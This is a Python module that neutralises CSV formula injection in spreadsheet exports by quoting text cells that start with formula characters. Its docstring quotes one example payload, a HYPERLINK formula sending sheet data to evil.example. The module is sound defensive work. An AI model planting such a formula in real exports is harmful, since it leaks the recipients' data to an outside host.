"""Cells of the CSV files we export, made safe to open in a spreadsheet (CSV formula injection).

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some treat a
leading tab or carriage return the same way), so a client name or an engagement title such as
``=HYPERLINK("http://evil.example/?d="&A2,"Open")`` would run as a formula on the manager's
machine: it can send the sheet's data away or, in older spreadsheets, start a program. Following
OWASP's advice, such a text cell is written with a single quote in front: every spreadsheet then
shows it as text, quote hidden, and nothing is evaluated.

Numbers are the exception: a score change of ``-3.5`` must stay a number the manager can sum and
sort. A number column passes its values through ``number_cell``, which formats a real number (int,
float, Decimal) for the reader's language; only what comes out of it is written unquoted. Text that
merely looks like a number is still treated as text, so a title of ``-1+1`` is quoted like any other.

Every CSV export builds its rows with ``csv_row``: one place decides what a cell may start with.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

from django.utils.formats import number_format

# OWASP's list (https://owasp.org/www-community/attacks/CSV_Injection), plus a line feed: some
# spreadsheets split or trim a cell on it and then read what follows as the cell's start.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


class NumberCell(str):
    """A real number formatted for the reader's language: written as is, never quoted."""


def number_cell(value: int | float | Decimal | None, digits: int | None = None) -> NumberCell | str:
    """A number as the spreadsheet of the reader's language reads it (a decimal comma in French)."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float | Decimal):
        raise TypeError(f"number_cell() takes a number, not {type(value).__name__}")
    return NumberCell(number_format(value, decimal_pos=digits))


def safe_cell(value) -> str:
    """One cell's text: a number as it is, any other text quoted if a spreadsheet could evaluate it."""
    if value is None:
        return ""
    if isinstance(value, NumberCell):
        return str(value)
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_row(cells: Iterable) -> list[str]:
    """A row ready for ``csv.writer``: every cell through ``safe_cell``."""
    return [safe_cell(cell) for cell in cells]
